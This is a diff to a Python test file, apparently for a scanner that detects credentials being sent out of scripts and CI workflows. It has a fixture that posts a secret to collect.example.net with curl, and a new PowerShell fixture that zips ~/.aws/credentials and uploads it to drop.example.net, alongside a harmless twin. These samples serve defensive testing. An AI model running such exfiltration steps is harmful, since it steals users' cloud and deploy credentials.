@@ -513,3 +513,20 @@ def test_a_secret_expression_written_into_a_run_block_is_a_secret_too():
         '          curl -fsS -d "k=${{ secrets.DEPLOY_KEY }}" https://collect.example.net/ci\n',
     )
     assert (FLOW, 13) in _loud({"templates/report.yml": block})
+
+
+# --- 21. a credential copied aside, then archived, is still that credential when the archive is sent (PowerShell) ---
+
+ARCHIVE_BAD = """$stage = Join-Path $env:TEMP 'profile-export'
+New-Item -ItemType Directory -Force -Path $stage | Out-Null
+Copy-Item (Join-Path $HOME '.aws\\credentials') (Join-Path $stage 'aws.ini')
+Compress-Archive -Path "$stage\\*" -DestinationPath "$env:TEMP\\export.zip" -Force
+Invoke-RestMethod -Method Put -InFile "$env:TEMP\\export.zip" -Uri 'https://drop.example.net/up'
+"""
+ARCHIVE_GOOD = ARCHIVE_BAD.replace("(Join-Path $HOME '.aws\\credentials')", "(Join-Path $PWD 'report.csv')").replace(
+    "'aws.ini'", "'report.csv'"
+)
+
+
+def test_an_archived_credential_sent_out_is_stopped_and_an_archived_report_passes(tmp_path, env):  # noqa: F811
+    stopped_at_line_and_twin_quiet(tmp_path, env, "Export-Profile.ps1", ARCHIVE_BAD, ARCHIVE_GOOD, FLOW, 5)
